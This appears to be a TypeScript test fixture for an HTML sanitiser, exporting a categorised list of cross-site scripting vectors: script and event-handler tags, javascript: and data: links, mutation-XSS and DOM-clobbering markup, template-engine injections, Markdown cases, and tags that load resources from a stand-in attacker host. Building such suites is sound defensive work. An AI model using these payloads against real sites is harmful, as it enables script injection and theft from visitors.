// Markup that has run, loaded or broken something somewhere: one of each kind that the public suites of sanitisers know, written
// for this suite. All of it has to be text.

/** A word of the page's that none of these may call. */
const ran = 'hostile()';

const scripts = [
  `<script>${ran}</script>`,
  `<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
  `<script\n>${ran}</script\t>`,
  `<scr<script>ipt>${ran}</scr</script>ipt>`,
  `<svg><script>${ran}</script></svg>`,
  `<svg><script href="https://evil.example/x.js" /></svg>`,
  `<script>/*\n\n*/${ran}</script>\n\nand a paragraph`,
  `<noscript><p title="</noscript><img src=x onerror=${ran}>"></noscript>`,
  `<template><script>${ran}</script></template>`,
  `<textarea><script>${ran}</script></textarea><!--</textarea><img src=x onerror=${ran}>-->`,
  `<xmp><img src=x onerror=${ran}></xmp>`,
  `<title><img src=x onerror=${ran}></title>`,
];

const handlers = [
  `<img src=x onerror=${ran}>`,
  `<img/src=x/onerror=${ran}>`,
  `<IMG """><img src=x onerror=${ran}>"`,
  `<svg/onload=${ran}>`,
  `<svg><animate onbegin=${ran} attributeName=x dur=1s>`,
  `<body onload=${ran}>`,
  `<details open ontoggle=${ran}>`,
  `<video><source onerror=${ran}></video>`,
  `<audio src=x onerror=${ran}>`,
  `<marquee onstart=${ran}>`,
  `<input autofocus onfocus=${ran}>`,
  `<select autofocus onfocus=${ran}>`,
  `<div style="animation: x" onanimationstart=${ran}>x</div>`,
  `<p draggable=true ondragend=${ran}>x</p>`,
  `<b onmouseover=${ran} unknown foo=bar>x</b>`,
  `<button popovertarget=x onbeforetoggle=${ran}>x</button><div popover id=x>y</div>`,
  `<button command=show-modal commandfor=x>x</button><dialog id=x onbeforetoggle=${ran}></dialog>`,
  `<selectedcontent oncontentvisibilityautostatechange=${ran} style=content-visibility:auto>`,
];

const addresses = [
  `<a href="javascript:${ran}">x</a>`,
  `<a href="java&#x0A;script:${ran}">x</a>`,
  `<a href="&#106;avascript&colon;${ran}">x</a>`,
  `<a href="\u2028javascript:${ran}">x</a>`,
  `<a href="\u00a0javascript:${ran}">x</a>`,
  `<a href="data:text/html,<script>${ran}</script>">x</a>`,
  `<a xlink:href="javascript:${ran}">x</a>`,
  `<math><a xlink:href="javascript:${ran}">x</a></math>`,
  `<svg><a><animate attributeName=href values=javascript:${ran} /><text>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${ran}'/>#x" /></svg>`,
  `<svg><foreignObject><iframe src=javascript:${ran}></iframe></foreignObject></svg>`,
  `<form action="javascript:${ran}"><button>x</button></form>`,
  `<form><button formaction="javascript:${ran}">x</button></form>`,
  `<isindex action=javascript:${ran} type=image>`,
  `<iframe src="javascript:${ran}"></iframe>`,
  `<iframe srcdoc="<script>parent.${ran}</script>"></iframe>`,
  `<iframe sandbox="allow-scripts" src="https://evil.example/"></iframe>`,
  `<option><iframe></select><b><script>${ran}</script>`,
  `<object data="data:text/html,<script>${ran}</script>"></object>`,
  `<embed src="https://evil.example/x.svg">`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<link rel=stylesheet href="https://evil.example/x.css">`,
  `<link rel=prefetch href="https://evil.example/">`,
  `<a href="view-source:https://evil.example/">x</a>`,
  `<a href="https://evil.example/" ping="https://evil.example/ping">x</a>`,
];

const pictures = [
  `<img src="https://evil.example/pixel.png">`,
  `<img srcset="https://evil.example/1.png 1x, https://evil.example/2.png 2x" sizes=1px>`,
  `<picture><source srcset=https://evil.example/x.webp><img></picture>`,
  `<video poster=https://evil.example/x.png>`,
  `<table background=https://evil.example/x.png><tr><td>x</td></tr></table>`,
  `<input type=image src=https://evil.example/x.png>`,
  `<svg><image href=https://evil.example/x.png /></svg>`,
  `<svg><feImage href=https://evil.example/x.svg /></svg>`,
];

const styles = [
  `<style>body{display:none}</style>`,
  `<style>@import "https://evil.example/x.css";</style>`,
  `<style></style><img src=x onerror=${ran}><style/>`,
  `<div style="position:fixed;inset:0;z-index:9999;background:red">x</div>`,
  `<p style="background:url(https://evil.example/x.png)">x</p>`,
  `<div class="fixed inset-0 z-50">x</div>`,
  `<font size=99 color=red face="x">x</font>`,
];

// What became markup only when a parser read it a second time.
const mutations = [
  `<svg></p><style><a id="</style><img src=1 onerror=${ran}>">`,
  `<math><mi//xlink:href="data:x,<script>${ran}</script>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${ran}&gt;">`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${ran} src>">`,
  `<svg><title><style><a id="</style></title><img src onerror=${ran}>">`,
  `<p><svg><desc><template><style><b title="</style><img src onerror=${ran}>">`,
  `<table><td><svg><p><style><i title="</style><img src onerror=${ran}>">`,
  `<annotation-xml encoding=text/html><style><img title="</style><img src onerror=${ran}>">`,
  `<select><template><style><!--</style><a rel="--></style></template></select><img src onerror=${ran}>">`,
  `<listing>&lt;img src onerror=${ran}&gt;</listing>`,
  `<b is=x-y onclick=${ran}>x</b><x-y></x-y>`,
  `<![CDATA[<script>${ran}</script>]]>`,
  `<?xml version="1.0"?><?xml-stylesheet href="javascript:${ran}"?>`,
  `<!DOCTYPE html [<!ENTITY x "<script>${ran}</script>">]>&x;`,
  `<!--><img src=x onerror=${ran}>-->`,
  `<!-- --!><img src=x onerror=${ran}>`,
  `&lt;script&gt;${ran}&lt;/script&gt;`,
  `&#60;img src=x onerror=${ran}&#62;`,
];

// Names that would stand in the way of the page's own.
const clobbering = [
  `<form name=body><input name=cookie><input id=attributes></form>`,
  `<img name=getElementById><img id=location>`,
  `<form id=x><input name=parentNode><input name=removeChild></form>`,
  `<a id=mockServer href=https://evil.example/></a><a id=mockServer name=reset></a>`,
  `<iframe name=top></iframe><object name=self></object>`,
  `<form onsubmit=${ran} tabindex=1 onfocus=${ran}><input name=nodeName></form>`,
  `<img src=x name=createElement><img src=x name=cookie><img src=x name=implementation>`,
  `<form><input name=submit><input name=acceptCharset><input name=hasChildNodes><input name=nodeType></form>`,
  `<object name=activeElement></object><form name=activeElement><svg onload=${ran}></form>`,
];

// Trees so deep or so crooked that a parser moved something out of them when it read them a second time.
const nesting = [
  `${'<div>'.repeat(510)}<table><caption><svg><title><table><caption></caption></table></title><style><a id="</style><img src=x onerror=${ran}>"></style></svg></caption></table>${'</div>'.repeat(510)}`,
  `${'<form>'.repeat(9)}<h1><h1><table><h1></table><math><mtext><mglyph><style><img src=x onerror=${ran}></style></h1>`,
  `${'<svg><g>'.repeat(9)}<foreignObject><p><style><!--</style><img title="--><img src=x onerror=${ran}>"></p></foreignObject>`,
  `<a><svg><a><svg><a href=javascript:${ran}><text>x</text></a></svg></a></svg></a>`,
  `<b><p><b><p><i></b></i><img src=x onerror=${ran}>`,
  `<div><template shadowrootmode=open><img src=x onerror=${ran}><slot></slot></template>x</div>`,
];

// What a template engine, a framework or an older browser would have read as code.
const dialects = [
  '{{constructor.constructor("hostile()")()}}',
  '<%= hostile() %>',
  '${hostile()}',
  '<b ng-app ng-init="hostile()">x</b>',
  '<b v-on:click="hostile()" @click="hostile()" :href="x">x</b>',
  '<b x-data x-init="hostile()">x</b>',
  '<b data-bind="click: hostile()">x</b>',
  '<b data-toggle=tooltip data-html=true title="<script>hostile()</script>">x</b>',
  '<!--[if gte IE 4]><script>hostile()</script><![endif]-->',
  '<p style="width:expression(hostile())">x</p>',
  '<p style="behavior:url(https://evil.example/x.htc)">x</p>',
  '<p style="-moz-binding:url(https://evil.example/x.xml#x)">x</p>',
  '<xml id=x><x><![CDATA[<img src=x onerror=hostile()>]]></x></xml><span datasrc=#x datafld=x dataformatas=html></span>',
  '<plaintext><script>hostile()</script>',
  '<noembed><img src=x onerror=hostile()></noembed><noframes><img src=x onerror=hostile()></noframes>',
  '<keygen autofocus onfocus=hostile()>',
  '<svg><set attributeName=onmouseover to=hostile() /><a><set attributeName=href to=javascript:hostile() /></a></svg>',
  '<svg xml:base="javascript:hostile()//"><a href="#x">x</a></svg>',
  '<b __proto__=x constructor=x toString=x>x</b>',
  '<a href="https://good.example/" target=x onclick=window.open(name)>x</a>',
];

// Markup where Markdown has its own ideas.
const inMarkdown = [
  `- <img src=x onerror=${ran}>\n- <script>${ran}</script>`,
  `> <script>${ran}</script>`,
  `# <img src=x onerror=${ran}>`,
  `| a |\n| --- |\n| <img src=x onerror=${ran}> |`,
  `\`<img src=x onerror=${ran}>\``,
  `\`\`\`html\n<script>${ran}</script>\n\`\`\``,
  `\`\`\`" onmouseover=${ran} x="\nx\n\`\`\``,
  `\`\`\`fixed inset-0 z-50\nx\n\`\`\``,
  `**<b onclick=${ran}>**x</b>`,
  `[<img src=x onerror=${ran}>](/terms)`,
  `![<img src=x onerror=${ran}>](x)`,
  `~~<s onclick=${ran}>x</s>~~`,
  `- [x] <input onfocus=${ran} autofocus>`,
  `[^1]\n\n[^1]: <script>${ran}</script>`,
  `<div>\n\n*a*\n\n<script>${ran}</script>\n\n</div>`,
  `&#x3c;svg/onload=${ran}&#x3e; **x**`,
  `\\<script>${ran}</script> *x*`,
];

export const hostileMarkup: readonly string[] = [
  ...scripts,
  ...handlers,
  ...addresses,
  ...pictures,
  ...styles,
  ...mutations,
  ...clobbering,
  ...nesting,
  ...dialects,
  ...inMarkdown,
];
